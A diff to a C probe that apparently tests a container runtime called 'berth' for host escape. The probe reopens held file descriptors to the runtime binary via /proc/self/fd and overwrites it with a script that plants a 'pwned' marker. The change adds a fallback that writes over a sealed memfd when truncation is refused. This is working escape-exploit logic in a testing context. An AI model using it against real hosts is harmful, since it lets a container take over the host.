@@ -13,7 +13,8 @@
  * Every link whose target names "berth" is "seen"; one that opens (O_RDONLY or
  * O_PATH) is "opened" and its fd is kept.  The kept fds are reopened through
  * /proc/self/fd/<n> with O_WRONLY|O_TRUNC over and over (ETXTBSY while the
- * binary runs); once that works ("writable") it writes a shell script that
+ * binary runs; O_WRONLY alone where truncating is refused, as for a sealed
+ * memfd); once that works ("writable") it writes a shell script that
  * writes "pwned" into the payload file when the next `berth exec` runs it on
  * the host ("written").  Ends at the deadline or when the stop file exists,
  * printing one JSON line: {"iterations":..,"seen":..,"opened":..,"denied":..,
@@ -171,13 +172,14 @@ static void try_write(void) {
     char self[64];
     snprintf(self, sizeof self, "/proc/self/fd/%d", held[i].fd);
     int fd = open(self, O_WRONLY | O_TRUNC | O_CLOEXEC);
+    if (fd < 0 && errno == EPERM) fd = open(self, O_WRONLY | O_CLOEXEC); /* sealed against shrinking: write over it then */
     if (fd < 0) {
-      if (errno != ETXTBSY) held[i].done = 1; /* EACCES, EPERM (sealed): it will not change */
+      if (errno != ETXTBSY) held[i].done = 1; /* EACCES, EPERM: it will not change */
       continue;
     }
     writable++;
     held[i].done = 1;
-    if (write(fd, payload, payload_len) == (ssize_t)payload_len) {
+    if (pwrite(fd, payload, payload_len, 0) == (ssize_t)payload_len) {
       written++;
       printf("written %s\n", held[i].name);
     } else {
